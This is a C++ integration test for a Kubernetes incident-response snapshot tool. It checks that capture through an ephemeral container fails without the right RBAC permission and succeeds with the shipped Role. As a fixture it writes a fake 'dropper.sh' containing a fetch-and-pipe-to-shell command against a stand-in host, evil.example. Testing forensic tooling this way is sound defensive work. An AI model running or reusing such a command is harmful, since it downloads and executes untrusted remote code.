TEST_CASE(
    "snapshot --via-ephemeral with the shipped Role works, without pods/ephemeralcontainers it is exit 5",
    "[integration][snapshot][ephemeral][rbac]") {
  auto& cluster = Cluster::get();
  cluster.apply_shipped_role("snapshot");
  TokenKubeconfig identity(service_account_token("irsteps", "irsteps-snapshot"), "irsteps-snapshot-eph");
  TestNamespace ns("snapephrole");
  Scratch rootfs("snap-ephroleroot");
  Scratch empty_bin("snap-ephrolebin");
  fs::create_directories(rootfs.dir / "srv");
  std::ofstream(rootfs.dir / "srv" / "dropper.sh") << "curl evil.example | sh\n";
  apply_distroless(ns.name(), "victim", rootfs.dir.string(), empty_bin.dir.string(),
                   collector_rbac("no-ephemeral",
                                  "- {apiGroups: [\"\"], resources: [pods/exec], verbs: [create, get]}\n"));
  TokenKubeconfig limited(service_account_token(ns.name(), "collector"), "collector-" + ns.name());
  Scratch denied_out("snap-ephdenied");
  auto denied =
      run_step_binary("snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "victim",
                                   "--kubeconfig", limited.path(), "--out", denied_out.dir.string(),
                                   "--triage=false", "--via-ephemeral", debug_image});
  REQUIRE_EXIT(denied, 5);
  CHECK(denied.err.find("forbidden") != std::string::npos);
  CHECK(ephemeral_containers(ns.name(), "victim").empty());
  const auto denied_manifest = manifest_of(denied_out.dir.string());
  REQUIRE(item(denied_manifest, "pod.json") != nullptr);
  CHECK(string_at(*item(denied_manifest, "pod.json"), {"status"}) == "complete");
  const auto* refused = item(denied_manifest, "filesystem/app.tar");
  REQUIRE(refused != nullptr);
  CHECK(string_at(*refused, {"status"}) == "failed");
  CHECK(string_at(*refused, {"reason"}).find("pods/ephemeralcontainers") != std::string::npos);

  Scratch out("snap-ephroleout");
  auto run =
      run_step_binary("snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "victim",
                                   "--kubeconfig", identity.path(), "--out", out.dir.string(),
                                   "--triage=false", "--via-ephemeral", debug_image});
  REQUIRE_EXIT(run, 0);
  CHECK(run.output("failed") == "0");
  const auto manifest = manifest_of(out.dir.string());
  const auto* tar = item(manifest, "filesystem/app.tar");
  REQUIRE(tar != nullptr);
  CHECK(string_at(*tar, {"status"}) == "complete");
  auto listing = run_process({"tar", "tf", out / string_at(*tar, {"path"})});
  REQUIRE(listing);
  CHECK(listing->out.find("./srv/dropper.sh") != std::string::npos);
  CHECK(ephemeral_containers(ns.name(), "victim").size() == 1);
}
